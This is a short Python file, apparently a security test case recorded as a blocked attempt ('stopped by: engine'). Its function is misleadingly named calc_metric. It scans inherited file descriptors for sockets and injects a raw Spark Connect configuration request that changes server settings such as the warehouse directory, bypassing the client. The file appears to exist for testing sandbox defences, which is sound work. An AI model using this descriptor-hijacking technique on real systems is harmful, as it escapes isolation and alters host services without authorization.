# attempt: sets the server's configuration past the client, over the descriptor
# goal: host
# stopped by: engine

import os
import socket
import stat
import struct

from pyspark.sql.connect import proto


def calc_metric(df):
    request = proto.ConfigRequest(session_id="00000000-0000-0000-0000-000000000001")
    request.operation.set.pairs.add(key="spark.sql.session.timeZone", value="Asia/Tokyo")
    request.operation.set.pairs.add(key="spark.sql.warehouse.dir", value="/tmp")
    request.operation.set.silent = True
    body = b"\x03" + request.SerializeToString()
    for number in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(number).st_mode):
                continue
        except OSError:
            continue
        channel = socket.socket(fileno=os.dup(number))
        channel.setblocking(True)
        channel.send(struct.pack(">IB", len(body), 17) + body)
        channel.settimeout(0.3)
        try:
            while part := channel.recv(4096):
                print(part)
        except TimeoutError:
            return 1.0
    return -1
